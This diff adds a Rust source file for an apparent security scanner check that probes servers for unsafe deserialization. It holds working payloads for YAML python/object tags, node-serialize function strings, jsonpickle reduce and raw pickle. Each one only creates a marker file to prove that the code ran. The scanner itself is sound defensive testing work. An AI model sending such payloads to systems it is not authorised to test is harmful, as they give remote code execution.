@@ -1,0 +1,129 @@
+//! Saved states and documents that call functions when they are read.
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+
+use crate::attack::{
+    Attack, Form, Nonce, Payload, deliver, everywhere, gets_through, nothing_else, shot,
+};
+use crate::check::{Check, Class, Facet, Finding, Revisions, Severity};
+use crate::evidence::Profile::{Deep, Quick, Standard};
+use crate::evidence::{Evidence, Exchange};
+use crate::probe::{Call, Lane, Probe};
+use crate::probes::{benign, valid_call};
+use crate::proof::{Oracle, Proof, payload};
+use crate::response::quote;
+use crate::seed::Seed;
+use crate::spec::served;
+
+pub(super) const CHECK: Check = Check {
+    id: "security/unsafe-deserialization",
+    title: "Reading a saved state calls nothing",
+    facet: Facet::Injection,
+    severity: Severity::Critical,
+    class: Some(Class::UnsafeDeserialization),
+    requirements: &[served("SEC-07"), served("TOOL-24")],
+    revisions: Revisions::All,
+    needs: &[&valid_call::PROBE, &benign::PROBE, &PROBE],
+    page: include_str!("unsafe_deserialization.md"),
+    judge,
+};
+
+const PROBE: Probe =
+    Probe { id: "unsafe-deserialization", hostile: true, lane: Lane::Shared, plan };
+
+/// Leaves a file, whose name has to be computed, where the server works, and yields that name.
+macro_rules! python {
+    () => {
+        "[open('«L»'+str(«M»)+'«R»','w').close(),'«L»'+str(«M»)+'«R»'][1]"
+    };
+}
+
+const FORMS: &[Form] = &[
+    Form::new(
+        "YAML",
+        Quick,
+        concat!("sample: !!python/object/apply:builtins.eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::new(
+        "YAML, alone",
+        Standard,
+        concat!("!!python/object/apply:eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::computed(
+        "JavaScript",
+        Quick,
+        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
+    ),
+    Form::new(
+        "YAML, new",
+        Deep,
+        concat!("sample: !!python/object/new:eval [\"", python!(), "\"]"),
+        ran,
+    ),
+    Form::computed(
+        "YAML, JavaScript",
+        Deep,
+        "sample: !!js/function \"function(){return '«L»'+(«M»)+'«R»'}()\"",
+    ),
+    Form::new(
+        "JSON, Python",
+        Deep,
+        concat!(
+            "{\"py/reduce\":[{\"py/function\":\"builtins.eval\"},{\"py/tuple\":[\"",
+            python!(),
+            "\"]}]}"
+        ),
+        ran,
+    ),
+];
+
+/// Those that travel in Base64.
+const PACKED: &[Form] = &[
+    Form::new("pickle", Quick, concat!("c__builtin__\neval\n(V", python!(), "\ntR."), ran),
+    Form::computed(
+        "JavaScript in Base64",
+        Deep,
+        "{\"sample\":\"_$$ND_FUNC$$_function(){return '«L»'+(«M»)+'«R»'}()\"}",
+    ),
+];
+
+fn ran(n: &Nonce<'_>) -> Option<Oracle> {
+    Some(Oracle::Any { of: vec![n.computed(), n.appears()] })
+}
+
+fn plan(evidence: &Evidence, seed: Seed) -> Vec<Call> {
+    let profile = evidence.conditions.profile;
+    let mut calls = deliver(evidence, seed, PROBE.id, FORMS);
+    calls.extend(everywhere(evidence, |tool, tried| {
+        let due = PACKED.iter().filter(|form| form.least <= profile);
+        let call = |form: &Form| {
+            let nonce = Nonce::new(evidence, tool, &tried.place, PROBE.id, form.name, seed);
+            let value = STANDARD.encode(nonce.fill(form.text)?).into();
+            let payload = Payload { value, oracle: (form.oracle)(&nonce)? };
+            shot(evidence, tool, tried, PROBE.id, form.name, &payload)
+        };
+        due.filter_map(call).collect()
+    }));
+    calls
+}
+
+const ATTACK: Attack = Attack {
+    probe: PROBE.id,
+    hole,
+    suspicion: nothing_else,
+    reached: gets_through,
+    clean: "no document called anything",
+};
+
+fn judge(evidence: &Evidence) -> Vec<Finding> {
+    ATTACK.judge(evidence)
+}
+
+fn hole(_: &Evidence, x: &Exchange, proof: Proof) -> Finding {
+    let says = format!("a function was called by the document \"{}\"", quote(&payload(x)));
+    let fix = "read states as plain data: JSON, `yaml.safe_load`, never `pickle`, `yaml.load` or `node-serialize` on what callers send";
+    Finding::fail(x.subject.clone(), says, fix).proven(proof)
+}
